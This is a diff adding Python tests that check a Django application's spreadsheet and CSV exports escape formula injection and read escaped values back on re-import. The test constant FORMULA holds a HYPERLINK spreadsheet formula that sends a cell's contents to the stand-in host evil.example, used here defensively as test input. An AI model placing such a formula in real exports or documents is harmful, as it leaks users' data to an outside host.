@@ -357,3 +357,92 @@ def test_finess_admin_import_bounds_size_and_rows_and_points_to_import_finess(ad
     assert len(too_many) < ADMIN_IMPORT_MAX_BYTES
     assert "import_finess" in _import_error(admin_import("finess.csv", too_many, "csv"))
     assert "UTF-8" in _import_error(admin_import("finess.csv", header.encode() + "Hôpital".encode("cp1252"), "csv"))
+
+
+# ---------------------------------------------------------------------------------------------------------------
+# 6. Formula injection: one helper for every export, and re-imports read the escaped value back
+# ---------------------------------------------------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Voir")'
+
+
+def test_the_helper_escapes_formula_like_text_only_and_reads_it_back():
+    from crrc.exports import safe_cell, unescape_cell
+
+    for text in (FORMULA, "+33 1 23", "-1+1", "@SUM(A1)", "\t=1"):
+        assert safe_cell(text) == "'" + text
+        assert unescape_cell(safe_cell(text)) == text
+    assert safe_cell("Sauvegardes") == "Sauvegardes" and safe_cell(-3) == -3 and safe_cell(None) == ""
+    assert unescape_cell("'ordinaire") == "'ordinaire"  # an apostrophe the user typed stays
+
+
+def test_action_plan_xlsx_writes_no_formula_and_round_trips_the_title():
+    import io
+
+    from openpyxl import load_workbook
+
+    from action_plans import services, xlsx
+    from action_plans.models import ActionItem
+    from establishments.roles import Role
+    from tests.action_plans.factories import member
+    from tests.establishments.factories import EstablishmentFactory
+
+    establishment = EstablishmentFactory()
+    manager = member(establishment, Role.RSSI)
+    item = services.create_item(establishment, manager, title=FORMULA, description="@danger")
+    content = xlsx.export_plan(establishment, ActionItem.objects.filter(pk=item.pk))
+    sheet = load_workbook(io.BytesIO(content))[xlsx.SHEET]
+    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+    assert formulas == []
+    titles = [
+        cell.value for row in sheet.iter_rows(min_row=2) for cell in row if cell.value and FORMULA in str(cell.value)
+    ]
+    assert titles == ["'" + FORMULA]
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    result = xlsx.import_plan(establishment, SimpleUploadedFile("suivi.xlsx", content), manager)
+    assert (result.created, result.updated, result.unchanged) == (0, 0, 1)
+    item.refresh_from_db()
+    assert (item.title, item.description) == (FORMULA, "@danger")
+
+
+def test_every_admin_export_escapes_formulas():
+    """Walks the admin registry: every ExportMixin admin (now or later) offers only escaping formats."""
+    from django.contrib import admin
+    from import_export.admin import ExportMixin
+
+    from crrc.exports import SAFE_EXPORT_FORMATS
+
+    unsafe = [
+        f"{model._meta.label}: {fmt.__name__}"
+        for model, model_admin in admin.site._registry.items()
+        if isinstance(model_admin, ExportMixin)
+        for fmt in model_admin.get_export_formats()
+        if not issubclass(fmt, tuple(SAFE_EXPORT_FORMATS))
+    ]
+    assert not unsafe, unsafe
+
+
+@pytest.mark.parametrize("fmt_name", ["csv", "xlsx", "ods"])
+def test_establishment_admin_export_escapes_and_its_import_reads_back(fmt_name):
+    import io
+
+    from django.contrib import admin
+
+    from establishments.models import Establishment
+    from establishments.resources import EstablishmentResource
+    from tests.establishments.factories import EstablishmentFactory
+
+    EstablishmentFactory(name=FORMULA)
+    model_admin = admin.site._registry[Establishment]
+    fmt = next(f for f in model_admin.get_export_formats() if f().get_extension() == fmt_name)()
+    data = fmt.export_data(EstablishmentResource().export())
+    raw = data if isinstance(data, bytes) else data.encode()
+    if fmt_name == "csv":
+        assert f",'{FORMULA[:10]}" in data or f"\"'{FORMULA[:10]}" in data
+    else:
+        import tablib
+
+        assert "'" + FORMULA in tablib.Dataset().load(io.BytesIO(raw), format=fmt_name)["rs"]
+    import_fmt = next(f for f in model_admin.get_import_formats() if f().get_extension() == fmt_name)()
+    assert FORMULA in import_fmt.create_dataset(raw if import_fmt.is_binary() else raw)["rs"]
